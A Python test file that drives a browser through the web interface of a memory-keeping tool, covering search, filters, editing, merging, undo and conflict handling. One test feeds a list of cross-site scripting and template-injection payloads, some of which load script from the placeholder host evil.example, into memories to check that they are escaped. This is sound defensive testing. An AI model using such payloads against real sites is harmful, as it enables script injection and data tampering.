"""Memories in a real browser: found as one types, changed in their place, several at once; and always the way back."""

import json
import os

import pytest

import crowd
from kept.core.memory import Status
from kept.local.files import hold_lock
from kept.memories import person
from kept.paths import find_paths
from kept.pipeline.run import RunOptions, run_pipeline
from talking import say


@pytest.fixture
def harvest(served):
    """Three memories, and one that waits."""
    for words, kind in (
        ("The walnut harvest is on Tuesday.", "decision"),
        ("Never ship walnuts without `pack --tight`.", "constraint"),
        ("The almond harvest is in May.", "decision"),
    ):
        served.add(words, kind)
    served.hold("Walnuts are stored in the barn.", "project_fact")
    return served


def rows(page):
    return page.locator(".row .says > a").all_inner_texts()


def test_the_list_of_a_past_day_shows_what_was_true_then_and_offers_no_change(served, home):
    say(home, "one", "Remember that we use Postgres for the orders table.")
    with served.workspace() as workspace:
        run_pipeline(workspace, [], RunOptions(model=False))
        person.retire(workspace, next(iter(workspace.store.log.memory_ids())))
    assert "Postgres" not in served.ask("GET", "/")[2]
    then = served.ask("GET", "/?at=2026-01-06")[2]
    assert ("Postgres" in then, "What was true at the end of 2026-01-06" in then, "/retire" in then) == (True, True, False)
    assert "Postgres" not in served.ask("GET", "/?at=2025-12-31")[2]


def test_what_is_typed_is_found_best_first_and_the_address_says_so(harvest, browse):
    page = browse()
    assert len(rows(page)) == 3
    page.keyboard.press("/")
    page.keyboard.type("walnut", delay=20)
    page.wait_for_url("**/?q=walnut")
    page.get_by_text("hits, best first").wait_for()
    assert all("alnut" in each for each in rows(page)[:2])
    assert page.locator("mark").first.inner_text().lower() == "walnut"
    found = rows(page)
    page.reload()
    assert rows(page) == found
    assert page.locator("#q").input_value() == "walnut"


def test_a_mistyped_word_finds_what_was_meant(harvest, browse):
    page = browse("/?q=wallnut")
    page.locator("[role=status] strong", has_text="walnut").wait_for()
    assert "alnut" in rows(page)[0]


def test_a_filter_is_in_the_address_and_going_back_takes_it_off(harvest, browse):
    page = browse()
    page.get_by_label("Category").select_option("coding.constraint")
    page.wait_for_url("**/?category=coding.constraint")
    page.get_by_text("1 memory that fits").wait_for()
    page.get_by_label("Category").select_option("coding.decision")
    page.get_by_text("2 memories that fit").wait_for()
    page.go_back()
    page.wait_for_url("**/?category=coding.constraint")
    page.get_by_text("1 memory that fits").wait_for()
    assert page.get_by_label("Category").input_value() == "coding.constraint"
    page.go_back()
    page.get_by_text("3 memories", exact=True).wait_for()


def test_what_is_chosen_while_a_search_is_under_way_holds_when_another_layer_is_opened(harvest, browse):
    page = browse("/?q=walnut")
    held = []
    page.route("**/?q=walnut&category*", lambda route: route.continue_() if held else held.append(route))
    page.get_by_label("Category").select_option("coding.constraint")
    page.get_by_role("link", name="memories", exact=True).click()
    page.wait_for_url("**/?q=walnut&within=memories&category=coding.constraint")
    page.get_by_text("1 hit").wait_for()


def test_what_has_another_status_is_found_by_it(harvest, browse):
    page = browse("/?status=held")
    assert rows(page) == ["Walnuts are stored in the barn."]
    page.keyboard.press("j")
    page.keyboard.press("y")
    page.get_by_text("Kept.").wait_for()
    assert harvest.memory("barn").status is Status.ACTIVE


def test_a_memory_is_edited_in_its_place_by_keys_alone(harvest, browse):
    page = browse("/?q=tuesday")
    page.keyboard.press("j")
    page.keyboard.press("e")
    box = page.get_by_label("What it says")
    box.wait_for()
    assert box.evaluate("(each) => each === document.activeElement")
    page.keyboard.press("Control+A")
    page.keyboard.type("The walnut harvest is on Friday.")
    page.keyboard.press("Enter")
    page.get_by_text("Changed.").wait_for()
    assert rows(page) == ["The walnut harvest is on Friday."]
    assert harvest.memory("Friday").owned
    page.keyboard.press("u")
    page.get_by_text("Undone: “The walnut harvest is on Tuesday.” – reworded back").wait_for()
    assert harvest.memory("Tuesday").status is Status.ACTIVE


def test_an_edit_that_is_left_changes_nothing(harvest, browse):
    page = browse("/?q=tuesday")
    page.keyboard.press("j")
    page.keyboard.press("e")
    page.get_by_label("What it says").fill("Something else.")
    page.keyboard.press("Escape")
    page.get_by_label("What it says").wait_for(state="detached")
    assert rows(page) == ["The walnut harvest is on Tuesday."]
    page.keyboard.press("p")  # the focus is where it was
    page.get_by_text("Pinned.").wait_for()
    assert harvest.memory("Tuesday").pinned


def test_what_is_retired_stays_in_its_place_until_one_looks_again_and_comes_back_by_undo(harvest, browse):
    page = browse()
    page.keyboard.press("j")
    page.keyboard.press("r")
    page.locator(".row.gone").wait_for()
    assert len(rows(page)) == 3
    page.get_by_role("button", name="Undo").click()
    page.get_by_text("Undone:").wait_for()
    assert page.locator(".row.gone").count() == 0


def test_a_question_is_answered_and_the_answer_is_remembered(harvest, browse):
    harvest.add("Who drives the truck?", "open_question")
    page = browse("/?q=truck")
    page.keyboard.press("j")
    page.keyboard.press("a")
    page.get_by_label("What answers it").fill("Ada drives the truck.")
    page.get_by_role("button", name="Answer").click()
    page.get_by_text("Answered.").wait_for()
    assert harvest.memory("Ada drives").category == "decision"
    assert harvest.memory("Who drives").status is Status.RESOLVED


def test_forgetting_says_what_it_does_before_and_does_nothing_on_no(harvest, browse):
    page = browse("/?q=almond")
    row = page.locator(".row")
    row.locator("summary").click()
    row.get_by_role("button", name="Forget …").click()
    dialog = page.locator("dialog[open]")
    dialog.get_by_text("This cannot be undone.").wait_for()
    dialog.get_by_role("button", name="Cancel").click()
    assert harvest.memory("almond").content
    row.locator("summary").click()
    row.get_by_role("button", name="Forget …").click()
    dialog.get_by_role("button", name="Erase for good").click()
    page.get_by_text("Forgotten for good.").wait_for()
    with harvest.workspace() as workspace:
        assert not any("almond" in each.content for each in workspace.store.log.memories())


def test_several_are_changed_at_once_and_one_undo_takes_all_of_it_back(harvest, browse):
    page = browse("/?category=coding.decision")
    for _ in range(2):
        page.keyboard.press("j")
        page.keyboard.press("x")
    page.get_by_text("2 chosen").wait_for()
    page.locator("#chosen").get_by_role("button", name="Retire").click()
    page.get_by_text("2 retired.").wait_for()
    assert {harvest.memory(each).status for each in ("walnut harvest", "almond")} == {Status.RETIRED}
    page.get_by_role("button", name="Undo").click()
    page.get_by_text("Undone:").wait_for()
    assert {harvest.memory(each).status for each in ("walnut harvest", "almond")} == {Status.ACTIVE}


def test_two_are_made_one(harvest, browse):
    page = browse("/?category=coding.decision")
    for _ in range(2):
        page.keyboard.press("j")
        page.keyboard.press("x")
    page.get_by_role("button", name="Merge …").click()
    page.get_by_label("Text of the merged memory").fill("Walnuts are harvested on Tuesday, almonds in May.")
    page.get_by_role("button", name="Merge", exact=True).click()
    page.get_by_text("Merged.").wait_for()
    page.locator(".row .says", has_text="almonds in May").wait_for()
    assert rows(page) == ["Walnuts are harvested on Tuesday, almonds in May."]
    page.get_by_role("button", name="Undo").click()
    page.locator(".row .says", has_text="almond harvest").wait_for()
    assert len(rows(page)) == 2


def test_a_new_one_is_remembered(harvest, browse):
    page = browse()
    page.keyboard.press("n")
    page.get_by_label("One sentence").fill("Crates come from the mill.")
    page.get_by_role("button", name="Remember", exact=True).click()
    page.locator(".row .says", has_text="Crates come").wait_for()
    assert harvest.memory("Crates").owned


def test_a_stale_tab_changes_nothing_and_shows_what_is_so_now(harvest, browse):
    page = browse("/?q=tuesday")
    page.watched.expected.append("412")
    with harvest.workspace() as workspace:
        from kept.memories import person  # noqa: PLC0415 - what somebody else does meanwhile

        person.edit(workspace, harvest.memory("Tuesday").id, "The walnut harvest is on Thursday.")
    page.keyboard.press("j")
    page.keyboard.press("r")
    page.get_by_text("this memory was changed meanwhile").wait_for()
    page.locator(".row .says", has_text="Thursday").wait_for()
    assert harvest.memory("Thursday").status is Status.ACTIVE


def test_two_tabs_do_not_undo_each_other(harvest, browse):
    first = browse("/?q=tuesday")
    second = browse("/?q=tuesday", context=first.context)
    first.watched.expected.append("412")
    for page in (first, second):
        page.locator(".row").focus()
        page.keyboard.press("e")
        page.get_by_label("What it says").wait_for()
    first.get_by_label("What it says").fill("The walnut harvest is on Friday.")
    first.keyboard.press("Enter")
    first.get_by_text("Changed.").wait_for()
    second.get_by_label("What it says").fill("The walnut harvest is on Sunday.")
    second.keyboard.press("Enter")
    second.get_by_text("it is active now and says “The walnut harvest is on Friday.”").wait_for()
    assert harvest.memory("Friday").status is Status.ACTIVE
    assert second.get_by_label("What it says").input_value() == "The walnut harvest is on Sunday."
    second.keyboard.press("Enter")  # having read that: what is typed is not lost, and is meant
    second.get_by_text("Changed.").wait_for()
    assert harvest.memory("Sunday").status is Status.ACTIVE


def test_a_connection_that_is_lost_while_an_edit_is_saved_loses_nothing_of_it(harvest, browse):
    page = browse("/?q=tuesday")
    page.watched.expected.append("ERR_INTERNET_DISCONNECTED")
    page.keyboard.press("j")
    page.keyboard.press("e")
    page.get_by_label("What it says").fill("The walnut harvest is on Friday.")
    page.context.set_offline(True)
    page.keyboard.press("Enter")
    page.get_by_text("kept web does not answer").wait_for()
    assert harvest.memory("Tuesday").status is Status.ACTIVE
    assert page.get_by_label("What it says").input_value() == "The walnut harvest is on Friday."
    page.context.set_offline(False)
    page.keyboard.press("Enter")
    page.get_by_text("Changed.").wait_for()
    assert harvest.memory("Friday").status is Status.ACTIVE


def test_while_a_run_holds_the_store_an_edit_is_saved_and_forgetting_says_why_it_waits(harvest, browse):
    page = browse("/?q=tuesday")
    page.watched.expected.append("409")
    with hold_lock(find_paths(str(harvest.home), os.environ).lock):
        page.keyboard.press("j")
        page.keyboard.press("e")
        page.get_by_label("What it says").fill("The walnut harvest is on Friday.")
        page.keyboard.press("Enter")
        page.get_by_text("Changed.").wait_for()
        assert harvest.memory("Friday").status is Status.ACTIVE
        page.locator(".row summary").first.click()
        page.get_by_role("button", name="Forget …").first.click()
        page.get_by_text("This cannot be undone.").wait_for()
        page.get_by_role("button", name="Erase for good").click()
        page.get_by_text("nothing was forgotten: already running").wait_for()
    assert harvest.memory("Friday").content


def test_memories_are_grouped_and_ordered_as_the_address_says_and_enter_opens_one(harvest, browse):
    page = browse()
    page.get_by_label("Group by").select_option("category")
    page.wait_for_url("**/?group=category")
    page.get_by_role("heading", name="Constraints 1").wait_for()
    assert "Decisions 2" in page.locator("h2").all_inner_texts()
    page.get_by_label("Category").select_option("coding.decision")
    page.wait_for_url("**/?category=coding.decision&group=category")
    assert len(rows(page)) == 2
    page.get_by_label("Order").select_option("oldest")
    page.wait_for_url("**sort=oldest")
    assert rows(page) == ["The walnut harvest is on Tuesday.", "The almond harvest is in May."]
    page.keyboard.press("Escape")  # leaves the field
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="The walnut harvest is on Tuesday.").wait_for()


def test_dense_rows_have_one_line_and_stay_dense(harvest, browse):
    page = browse()
    tall = page.locator(".row").first.bounding_box()["height"]
    page.keyboard.press("d")
    assert page.locator(".row").first.bounding_box()["height"] < tall
    page.reload()
    assert page.locator(".row").first.bounding_box()["height"] < tall


def test_what_can_be_done_stands_in_one_menu_that_keys_open_and_close(harvest, browse):
    page = browse("/?q=tuesday")
    page.keyboard.press("j")
    page.keyboard.press(".")
    assert page.locator(".menu[open] :focus").inner_text().startswith("Open its page")
    page.keyboard.press("ArrowDown")
    assert page.locator(".menu[open] :focus").inner_text().startswith("Edit")
    page.keyboard.press("Escape")
    assert page.locator(".menu[open]").count() == 0
    assert page.locator(".row:focus").count() == 1


def test_what_is_wrong_is_retired_with_the_reason_a_person_gives(harvest, browse):
    page = browse("/?q=tuesday")
    page.keyboard.press("j")
    page.keyboard.press("w")
    page.get_by_label("This is wrong because").fill("It was moved to Friday.")
    page.keyboard.press("Enter")
    page.get_by_text("Retired, with your reason.").wait_for()
    assert harvest.memory("Tuesday").reason == "It was moved to Friday."


HOSTILE = (
    "<script>document.title='owned'</script> walnut",
    "<img src=x onerror=\"document.title='owned'\"> walnut",
    "`</code><svg onload=document.title='owned'>` walnut",
    "walnut \"><input autofocus onfocus=document.title='owned'>",
    "javascript:document.title='owned' walnut [x](javascript:alert(1))",
    "{{ 7 * 7 }} ${7 * 7} {% raw %} walnut",
    'walnut <div hx-get="//evil.example/x" hx-trigger="load"> data-send="POST /api/forget"',
    "walnut </textarea><script src=//evil.example></script>",
)


def test_whatever_a_memory_says_it_is_only_words_on_every_page(served, browse):
    for each in HOSTILE:
        served.add(each)
        served.hold(f"{each} held")
    page = browse()
    assert len(rows(page)) == len(HOSTILE)
    assert page.locator(".row .says", has_text="<script>document").count() == 1
    page.keyboard.press("j")
    page.keyboard.press("e")
    page.get_by_label("What it says").wait_for()
    page.goto(f"{served.url}/review")
    assert page.locator(".decide").count() == len(HOSTILE)
    with served.workspace() as workspace:
        ids = {memory.content: memory.id for memory in workspace.store.log.memories()}
    for each in HOSTILE:
        page.goto(f"{served.url}/memories/{ids[each]}")
        assert page.locator("h1").inner_text() == each.replace("`", "")
        assert page.title() != "owned"
    assert page.locator("script:not([src]), main svg, main img, main [onload], main [onerror], main [onfocus]").count() == 0


def test_what_nobody_sees_is_not_in_a_page(served, browse):
    served.add("The walnut harvest is on Tuesday.")
    with served.workspace() as workspace:
        text = workspace.store.log.memories()[0].content
    page = browse(f"/?q={text[:6]}\u202e\u200b")
    assert "\u202e" not in page.content()


def test_a_search_with_a_filter_finds_what_ranks_low(served):
    with served.workspace() as workspace:
        crowd.tell(workspace, [f"The widget number {number} is a widget." for number in range(110)])
    kept_last = served.add("On some days of the year there may also be a widget, besides all else that is made and sold here.")
    with served.workspace() as workspace:
        person.pin(workspace, kept_last.id)
    headers = {"HX-Request": "true"}
    _, _, body = served.ask("GET", "/?q=widget&status=pinned", headers=headers)
    assert kept_last.id in body
    assert "number 7 " not in body


def test_where_keys_are_hidden_no_sentence_is_left_without_them(harvest, browse):
    page = browse("/?q=tuesday", phone=True)
    page.locator(".row summary").first.click()
    page.get_by_role("button", name="Edit").click()
    note = page.locator(".row.editing p.small")
    note.wait_for()
    assert note.inner_text().strip() == "Later runs keep what you write."


def test_a_memory_is_split_in_two_and_one_undo_makes_it_one_again(served, browse):
    served.add("The harvest is on Tuesday. The barn is red.")
    page = browse()
    page.keyboard.press("j")
    page.keyboard.press("s")
    assert page.get_by_label("The first says").input_value() == "The harvest is on Tuesday."
    assert page.get_by_label("The second says").input_value() == "The barn is red."
    page.get_by_label("The second says").fill("The barn is green.")
    page.get_by_role("button", name="Split", exact=True).click()
    page.get_by_text("Split.").wait_for()
    assert sorted(rows(page)) == ["The barn is green.", "The harvest is on Tuesday."]
    page.keyboard.press("u")
    page.get_by_text("Undone:").wait_for()
    assert rows(page) == ["The harvest is on Tuesday. The barn is red."]


def test_the_passages_of_a_memory_are_what_its_parts_say_where_one_chooses_them(served, browse, home):
    say(home, "one", "From now on the harvest is on Tuesday.", day="2026-01-05")
    say(home, "two", "From now on the barn is painted red.", day="2026-01-06")
    with served.workspace() as workspace:
        run_pipeline(workspace, [], RunOptions(model=False))
        person.merge(workspace, [served.memory("harvest").id, served.memory("barn").id], "Harvest on Tuesday, barn red.")
    page = browse(f"/memories/{served.memory('Harvest on').id}")
    page.keyboard.press("s")
    page.get_by_text("2 passages it rests on").click()
    page.locator("li", has_text="painted red").get_by_role("button", name="as the first").click()
    page.locator("li", has_text="on Tuesday").get_by_role("button", name="as the second").click()
    page.get_by_role("button", name="Split", exact=True).click()
    page.locator("h1.says", has_text="painted red").wait_for()
    with served.workspace() as workspace:
        parts = [each for each in workspace.store.log.memories() if each.status is Status.ACTIVE]
    assert sorted([each.session for each in part.evidence] for part in parts) == [["one"], ["two"]]


def test_what_is_called_wrong_is_noted_for_the_score_with_its_reason_until_that_is_taken_back(harvest):
    notes = harvest.home / ".local" / "share" / "kept" / "judged.jsonl"

    def told():
        return [(each["words"], each["reason"]) for each in map(json.loads, notes.read_text().splitlines())]

    tuesday, barn = harvest.memory("Tuesday"), harvest.memory("barn")
    harvest.ask("POST", f"/api/memories/{barn.id}/retire", {})
    assert not notes.exists()
    undo = harvest.ask("POST", f"/api/memories/{tuesday.id}/retire", {"reason": "it is on Friday"})[2]["undo"]
    assert told() == [(tuesday.content, "it is on Friday")]
    assert json.loads(notes.read_text())["terms"]
    harvest.ask("POST", "/api/undo", {"what": undo})
    assert told()[-1] == (tuesday.content, "")
    assert harvest.ask("POST", "/api/forget", {"memories": [tuesday.id], "sure": True})[0] == 200
    assert "walnut" not in notes.read_text()


def test_code_breaks_between_its_words_only(browse, served):
    served.add("Where the socket is shared, run `install --umask 0117 -m 660 --no-cloud-sync #[0-9]* target-folder` instead.")
    page = browse("/")
    words = page.locator(".says code span")
    for width in range(320, 460, 20):
        page.set_viewport_size({"width": width, "height": 844})
        assert words.evaluate_all("all => all.map((each) => each.getClientRects().length + (each.clientHeight > 30))") == [1] * 5
